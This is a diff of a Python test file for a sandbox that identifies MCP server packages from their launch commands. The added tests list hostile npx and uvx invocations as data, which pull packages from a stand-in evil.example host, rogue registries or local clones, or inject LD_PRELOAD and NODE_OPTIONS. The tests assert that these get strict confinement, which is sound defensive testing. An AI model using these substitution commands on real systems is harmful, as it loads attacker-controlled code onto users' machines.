@@ -96,12 +96,13 @@ def test_only_programs_have_one() -> None:
         (["npx", "-y", "@modelcontextprotocol/server-memory@2026.8.31"], "@modelcontextprotocol/server-memory", ()),
         (["npx", "-y", "-p", "@playwright/mcp@1", "mcp", "--headless"], "@playwright/mcp", ("--headless",)),
         (["uvx", "--with", "mcp<2", "mcp-server-sqlite==1", "--db", "/a"], "mcp-server-sqlite", ("--db", "/a")),
-        (["/v/python3", "-c", "import mcp_server_sqlite as s", "--db"], "mcp-server-sqlite", ("--db",)),
+        (["python3", "-c", "import mcp_server_sqlite as s", "--db"], "mcp-server-sqlite", ("--db",)),
         (["uvx", "--from", "serena-agent[x]>=2", "serena", "start"], "serena-agent", ("start",)),
         (["/opt/uv/bin/uvx", "mcp-server-git"], "mcp-server-git", ()),
-        (["/v/bin/mcp-server-git", "-r", "/r"], "mcp-server-git", ("-r", "/r")),
-        (["/v/bin/python", "-m", "mcp_server_git", "-r", "/r"], "mcp-server-git", ("-r", "/r")),
-        (["node", "/a/node_modules/@playwright/mcp/cli.js", "--headless"], "@playwright/mcp", ("--headless",)),
+        (["uvx", "-p", "3.12", "--with", "mcp>=1.2,<2", "mcp-server-git@latest"], "mcp-server-git", ()),
+        (["mcp-server-git", "-r", "/r"], "mcp-server-git", ("-r", "/r")),
+        (["python", "-m", "mcp_server_git", "-r", "/r"], "mcp-server-git", ("-r", "/r")),
+        (["node", "/a/node_modules/@playwright/mcp/cli.js", "--headless"], "", ("--headless",)),
         (["npx", "--unknown", "x"], "", ()),
         (["prog", "x"], "", ("x",)),
     ],
@@ -109,6 +110,50 @@ def test_only_programs_have_one() -> None:
 def test_a_package_is_known_however_it_is_started(words: list[str], package: str, own: tuple[str, ...]) -> None:
     found, args = started(words[0], words[1:])
     assert (found, tuple(args)) == (package, own)
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["npx", "-y", "@playwright/mcp@npm:evil"],
+        ["npx", "-y", "@playwright/mcp@https://evil.example/a.tgz"],
+        ["npx", "-y", "@playwright/mcp@github:evil/a"],
+        ["npx", "-y", "@playwright/mcp@file:../evil"],
+        ["npx", "--registry", "http://evil.example/", "@playwright/mcp"],
+        ["npx", "--registry=http://evil.example/", "@playwright/mcp"],
+        ["npx", "-p", "@playwright/mcp", "-p", "evil", "mcp"],
+        ["uvx", "mcp-server-fetch @ https://evil.example/a.whl"],
+        ["uvx", "mcp-server-fetch@https://evil.example/a.whl"],
+        ["uvx", "--with", "evil", "mcp-server-fetch"],
+        ["uvx", "--with", "mcp<2,evil", "mcp-server-fetch"],
+        ["uvx", "--with=mcp @ https://evil.example/a.whl", "mcp-server-fetch"],
+        ["uvx", "--index-url", "http://evil.example/", "mcp-server-fetch"],
+        ["uvx", "--index=http://evil.example/", "mcp-server-fetch"],
+        ["uvx", "--default-index", "http://evil.example/", "mcp-server-fetch"],
+        ["uvx", "--extra-index-url", "http://evil.example/", "mcp-server-fetch"],
+        ["./mcp-server-fetch"],
+        ["/clone/bin/mcp-server-fetch"],
+        ["/clone/bin/python", "-m", "mcp_server_fetch"],
+        ["node", "./node_modules/@playwright/mcp/cli.js"],
+    ],
+)
+def test_what_only_has_the_name_of_a_package_has_not_its_profile(words: list[str]) -> None:
+    assert started(words[0], words[1:])[0] == ""
+    assert confines(*words, box="profile") == Confines(level="strict")
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["npm_config_registry", "NPM_CONFIG_REGISTRY", "UV_INDEX_URL", "PYTHONPATH", "NODE_OPTIONS", "LD_PRELOAD", "PATH"],
+)
+def test_a_package_has_no_profile_where_its_variables_have_something_else_loaded(name: str) -> None:
+    assert confines("uvx", "mcp-server-fetch", env={name: "/clone"}, box="profile") == Confines(level="strict")
+    assert confines("uvx", "mcp-server-fetch", env={"PYTHONUTF8": "1", "NODE_ENV": "x"}, box="profile").net is True
+
+
+def test_a_module_that_a_folder_may_have_has_no_profile() -> None:
+    assert started("python", ["-m", "mcp_server_fetch"], cwd="/clone")[0] == ""
+    assert started("mcp-server-fetch", [], cwd="/clone")[0] == "mcp-server-fetch"
 
 
 def test_a_version_is_no_part_of_a_name() -> None:
